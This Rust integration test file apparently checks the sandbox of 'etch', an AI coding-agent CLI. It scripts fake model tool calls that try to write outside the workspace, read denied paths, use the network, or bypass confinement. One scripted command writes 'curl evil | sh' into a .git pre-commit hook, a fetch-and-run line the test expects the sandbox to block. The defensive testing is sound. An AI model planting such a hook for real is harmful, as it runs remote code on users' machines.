//! The sandbox for the model's commands (issue 32), through the real
//! binary against the fake model server: writes outside the writable
//! roots and reads of denied paths fail with the sandbox's message and
//! change nothing, writes inside succeed, `.git` stays read-only, the
//! network is off unless configured on, a project file cannot loosen any
//! of it, and a kernel without Landlock (simulated) runs commands
//! unconfined with a notice.

#![allow(clippy::unwrap_used, clippy::panic)]

mod support;

use std::net::TcpListener;

use etch_test_support::{FakeServer, Reply, chat_text, chat_tool_calls};
use serde_json::json;
use support::Workspace;

/// A bash call's arguments.
fn bash(command: &str) -> String {
    json!({ "command": command }).to_string()
}

/// Runs one `-p` prompt whose model makes one bash call per command, in
/// order, then answers "done"; returns the results' texts.
fn run_commands(ws: &Workspace, commands: &[&str], env: &[(&str, &str)]) -> Vec<String> {
    let mut replies = Vec::new();
    for (i, command) in commands.iter().enumerate() {
        let id = format!("c{i}");
        replies.push(Reply::sse(chat_tool_calls(&[(
            &id,
            "bash",
            &bash(command),
        )])));
    }
    replies.push(Reply::sse(chat_text("done")));
    let server = FakeServer::start(replies).unwrap();
    let out = ws.run_model(&server, &["-p", "go"], env);
    assert_eq!(out.ok(), "done\n", "stderr: {}", out.stderr());
    (0..commands.len())
        .map(|i| ws.result_text(&format!("c{i}")))
        .collect()
}

/// A directory outside every writable root (not under /tmp, the
/// workspace or its home).
fn outside() -> tempfile::TempDir {
    tempfile::tempdir_in("/var/tmp").unwrap()
}

/// `etch status --json`'s sandbox object, after a first run made a
/// session.
fn sandbox_status(ws: &Workspace, env: &[(&str, &str)]) -> serde_json::Value {
    let out = ws.run_env(&["status", "--json"], env);
    let status: serde_json::Value = serde_json::from_str(out.ok().trim()).unwrap();
    status["sandbox"].clone()
}

/// Under the default `workspace-write`: a write outside fails with the
/// sandbox's message and creates nothing; inside it works; a denied path
/// cannot be read; `.git` cannot be changed; `etch status` says the
/// mode, how far it holds and the kernel's ABI.
#[test]
fn commands_write_only_inside_the_workspace() {
    let ws = Workspace::new();
    let away = outside();
    let secret = away.path().join("secret");
    std::fs::create_dir(&secret).unwrap();
    std::fs::write(secret.join("key"), "KEY-MATERIAL").unwrap();
    std::fs::write(away.path().join("open.txt"), "readable\n").unwrap();
    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
    ws.user_config(&format!(
        "[sandbox]\ndeny_read = [\"{}\"]\n",
        secret.display()
    ));
    let target = away.path().join("pwned");
    let results = run_commands(
        &ws,
        &[
            &format!("echo x > {}", target.display()),
            "echo inside > made.txt && cat made.txt",
            &format!("cat {}/key", secret.display()),
            &format!("cat {}", away.path().join("open.txt").display()),
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
        ],
        &[],
    );
    assert!(
        results[0].contains(&format!(
            "blocked by the sandbox (workspace-write): {}; ask the user or use bypass",
            target.display()
        )),
        "{}",
        results[0]
    );
    assert!(!target.exists());
    assert_eq!(results[1], "inside\n");
    assert!(ws.path().join("made.txt").exists());
    // Hidden under an empty tmpfs closed to all but root (root sees it
    // empty), or, without a mount namespace, refused by Landlock.
    assert!(
        (results[2].contains("Permission denied")
            || results[2].contains("No such file or directory"))
            && !results[2].contains("KEY-MATERIAL"),
        "{}",
        results[2]
    );
    assert!(
        results[2].contains("blocked by the sandbox (workspace-write)"),
        "{}",
        results[2]
    );
    assert_eq!(results[3], "readable\n");

    let status = sandbox_status(&ws, &[]);
    assert_eq!(status["mode"], "workspace-write");
    assert!(status["abi"].as_u64().unwrap() >= 1, "{status}");
    let description = status["description"].as_str().unwrap();
    if description.contains(".git and .etch stay writable") {
        // A machine without mount namespaces says so instead.
        assert_eq!(status["enforcement"], "partial");
    } else {
        assert_eq!(status["enforcement"], "full", "{status}");
        assert!(
            results[4].contains("blocked by the sandbox (workspace-write)")
                && results[4].contains(".git/hooks/pre-commit"),
            "{}",
            results[4]
        );
        assert!(!ws.path().join(".git/hooks/pre-commit").exists());
    }
    let text = ws.run(&["status"]).ok();
    assert!(
        text.contains("sandbox      workspace-write, ") && text.contains("(Landlock ABI "),
        "{text}"
    );
}

/// A command that connects to a listener on this machine: refused with
/// the network off (the default), connected with `network = true`.
#[test]
fn the_network_is_off_unless_configured() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')\""
    );
    let ws = Workspace::new();
    let off = run_commands(&ws, &[&connect], &[]);
    assert!(!off[0].contains("connected\n"), "{}", off[0]);
    assert!(
        off[0].contains("blocked by the sandbox (workspace-write): network access"),
        "{}",
        off[0]
    );
    let ws = Workspace::new();
    ws.user_config("[sandbox]\nnetwork = true\n");
    let on = run_commands(&ws, &[&connect], &[]);
    assert_eq!(on[0], "connected\n");
}

/// A project file that loosens the sandbox is ignored with a warning
/// until trusted: the command stays confined.
#[test]
fn a_project_cannot_loosen_the_sandbox() {
    let ws = Workspace::new();
    let away = outside();
    ws.project_config("[sandbox]\nmode = \"off\"\nnetwork = true\n");
    let target = away.path().join("pwned");
    let server = FakeServer::start(vec![
        Reply::sse(chat_tool_calls(&[(
            "c1",
            "bash",
            &bash(&format!("echo x > {}", target.display())),
        )])),
        Reply::sse(chat_text("done")),
    ])
    .unwrap();
    let out = ws.run_model(&server, &["-p", "go"], &[]);
    assert_eq!(out.ok(), "done\n");
    assert!(!target.exists());
    assert!(
        out.stderr()
            .contains("is not trusted, so etch ignores its [sandbox] mode, [sandbox] network"),
        "{}",
        out.stderr()
    );
    // A project may confine more without trust.
    let ws = Workspace::new();
    ws.project_config("[sandbox]\nmode = \"read-only\"\n");
    let results = run_commands(&ws, &["echo x > here.txt"], &[]);
    assert!(
        results[0].contains("blocked by the sandbox (read-only)"),
        "{}",
        results[0]
    );
    assert!(!ws.path().join("here.txt").exists());
}

/// On a kernel (or container) without Landlock, simulated: a one-line
/// notice at the start, `etch status` reports the sandbox off, and
/// commands still run, unconfined.
#[test]
fn without_landlock_commands_run_with_a_notice() {
    let ws = Workspace::new();
    let away = outside();
    let target = away.path().join("written");
    let env = [("ETCH_SANDBOX_ABI", "0")];
    let server = FakeServer::start(vec![
        Reply::sse(chat_tool_calls(&[(
            "c1",
            "bash",
            &bash(&format!("echo x > {} && echo wrote", target.display())),
        )])),
        Reply::sse(chat_text("done")),
    ])
    .unwrap();
    let out = ws.run_model(&server, &["-p", "go"], &env);
    assert_eq!(out.ok(), "done\n");
    assert_eq!(ws.result_text("c1"), "wrote\n");
    assert!(target.exists());
    let stderr = out.stderr();
    let notices: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains("no Landlock"))
        .collect();
    assert_eq!(notices.len(), 1, "{stderr}");
    let status = sandbox_status(&ws, &env);
    assert_eq!(status["mode"], "off");
    assert_eq!(status["enforcement"], "none");
    // The tool schema offers no bypass when there is no sandbox.
    let body = String::from_utf8(server.requests()[0].body.clone()).unwrap();
    assert!(!body.contains("bypass_sandbox"), "{body}");
}

/// The helper itself: a broken policy or a missing program is a clear
/// error with exit 126, never a panic.
#[test]
fn the_helper_refuses_bad_input_clearly() {
    let ws = Workspace::new();
    let out = ws.run(&["__sandbox-exec", "{not json", "--", "true"]);
    assert_eq!(out.code(), 126);
    assert!(
        out.stderr().contains("unreadable sandbox policy"),
        "{}",
        out.stderr()
    );
    let out = ws.run(&["__sandbox-exec"]);
    assert_eq!(out.code(), 126);
    assert!(
        out.stderr().contains("usage: etch __sandbox-exec"),
        "{}",
        out.stderr()
    );
    let policy = json!({"mode": "read-only", "network": false, "writable": [], "deny_read": [], "protected": []});
    let out = ws.run(&[
        "__sandbox-exec",
        &policy.to_string(),
        "--",
        "/no/such/program",
    ]);
    assert_eq!(out.code(), 126);
    assert!(
        out.stderr().contains("cannot run /no/such/program"),
        "{}",
        out.stderr()
    );
}

/// A bash call asking to leave the sandbox: `-p` refuses it (the tool
/// result says how to allow it, nothing is written), and with
/// `--allow-unsandboxed` it runs; the call and its result are in the log.
#[test]
fn a_bypass_needs_allow_unsandboxed_under_p() {
    let away = outside();
    let target = away.path().join("escaped");
    let call = json!({
        "command": format!("echo x > {} && echo wrote", target.display()),
        "bypass_sandbox": true,
        "justification": "write the report where the user asked"
    })
    .to_string();
    let script = || {
        FakeServer::start(vec![
            Reply::sse(chat_tool_calls(&[("c1", "bash", &call)])),
            Reply::sse(chat_text("done")),
        ])
        .unwrap()
    };
    let ws = Workspace::new();
    let server = script();
    let body = String::from_utf8({
        let out = ws.run_model(&server, &["-p", "go"], &[]);
        assert_eq!(out.ok(), "done\n");
        server.requests()[0].body.clone()
    })
    .unwrap();
    assert!(
        body.contains("bypass_sandbox") && body.contains("justification"),
        "{body}"
    );
    let refused = ws.result_text("c1");
    assert!(
        refused.contains(
            "etch -p runs no command outside the sandbox unless started with --allow-unsandboxed"
        ),
        "{refused}"
    );
    assert!(!target.exists());
    // --approve-all alone does not let a command out.
    let ws = Workspace::new();
    let server = script();
    assert_eq!(
        ws.run_model(&server, &["-p", "go", "--approve-all"], &[])
            .ok(),
        "done\n"
    );
    assert!(!target.exists());

    let ws = Workspace::new();
    let server = script();
    let out = ws.run_model(&server, &["-p", "go", "--allow-unsandboxed"], &[]);
    assert_eq!(out.ok(), "done\n");
    assert_eq!(ws.result_text("c1"), "wrote\n");
    assert!(target.exists());
    let log = support::jsonl(&ws.only_session());
    let decision = log
        .iter()
        .find(|e| e["type"] == "approval.decision")
        .unwrap();
    assert_eq!(
        decision["data"],
        json!({
            "toolCallId": "c1",
            "toolName": "bash",
            "decision": "allowed",
            "by": "flag",
            "reason": "write the report where the user asked",
            "bypass": true
        })
    );
    // Logged before the result it allowed, and listed by `etch show`.
    let at = |kind: &str| log.iter().position(|e| e["type"] == kind).unwrap();
    assert!(at("approval.decision") < at("message.tool"));
    let shown = ws.run(&["show"]);
    assert!(
        shown.ok().contains(
            "(approval: bash call c1 (outside the sandbox) allowed once by -p's flags: write the report where the user asked)"
        ),
        "{}",
        shown.stdout()
    );
}

/// `[approval] policy = "untrusted"` under `-p`: a read-only command
/// runs, one that changes something is refused (no one to ask) unless
/// `--approve-all`.
#[test]
fn untrusted_asks_for_what_is_not_read_only() {
    let script = || {
        FakeServer::start(vec![
            Reply::sse(chat_tool_calls(&[
                ("c1", "bash", &bash("ls")),
                ("c2", "bash", &bash("touch made")),
            ])),
            Reply::sse(chat_text("done")),
        ])
        .unwrap()
    };
    let ws = Workspace::new();
    ws.user_config("[approval]\npolicy = \"untrusted\"\n");
    let server = script();
    assert_eq!(ws.run_model(&server, &["-p", "go"], &[]).ok(), "done\n");
    assert!(!ws.result_text("c1").contains("approval"));
    assert!(
        ws.result_text("c2").contains(
            "needs the user's approval (the approval policy is untrusted and this call may \
             change something), and etch -p cannot ask"
        ),
        "{}",
        ws.result_text("c2")
    );
    assert!(!ws.path().join("made").exists());
    let ws = Workspace::new();
    ws.user_config("[approval]\npolicy = \"untrusted\"\n");
    let server = script();
    assert_eq!(
        ws.run_model(&server, &["-p", "go", "--approve-all"], &[])
            .ok(),
        "done\n"
    );
    assert!(ws.path().join("made").exists());
}

/// The user's own shell command (the chat's `!cmd`, RPC's `bash`) runs
/// in the same sandbox as the model's: a write outside is refused and
/// named, one inside works.
#[test]
fn the_users_shell_commands_are_confined_too() {
    let ws = Workspace::new();
    let away = outside();
    let target = away.path().join("from-the-shell");
    let mut rpc = support::rpc::RpcClient::start(&ws, &["--provider", "echo"], &[]);
    rpc.next();
    let command = format!("echo x > {}; echo inside > here.txt", target.display());
    let out = rpc.call(&json!({"id": "b", "type": "bash", "command": command}));
    let output = out["data"]["output"].as_str().unwrap();
    assert!(
        output.contains(&format!(
            "blocked by the sandbox (workspace-write): {}",
            target.display()
        )),
        "{out}"
    );
    assert!(!target.exists());
    assert!(ws.path().join("here.txt").exists());
    let (status, stderr, _) = rpc.finish();
    assert!(status.success(), "{stderr}");
}

/// Plugins are the user's own code and run unconfined, unless their
/// entry says `sandbox = true`: then the same write outside fails.
#[test]
fn a_plugin_is_confined_only_when_it_opts_in() {
    const PLUGIN: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/plugin.py");
    let away = outside();
    for confined in [false, true] {
        let target = away.path().join(format!("made-{confined}"));
        let ws = Workspace::new();
        ws.user_config(&format!(
            "[[plugins]]\nname = \"p\"\ncommand = \"python3 {PLUGIN} ok p\"\nsandbox = {confined}\n"
        ));
        let args = json!({ "make": target.display().to_string() }).to_string();
        let server = FakeServer::start(vec![
            Reply::sse(chat_tool_calls(&[("c1", "p_wait", &args)])),
            Reply::sse(chat_text("done")),
        ])
        .unwrap();
        assert_eq!(ws.run_model(&server, &["-p", "go"], &[]).ok(), "done\n");
        let result = ws.result_text("c1");
        if confined {
            assert!(!target.exists(), "{result}");
            assert!(result.starts_with("tool error"), "{result}");
        } else {
            assert!(target.exists(), "{result}");
            assert_eq!(result, "saw True");
        }
    }
}
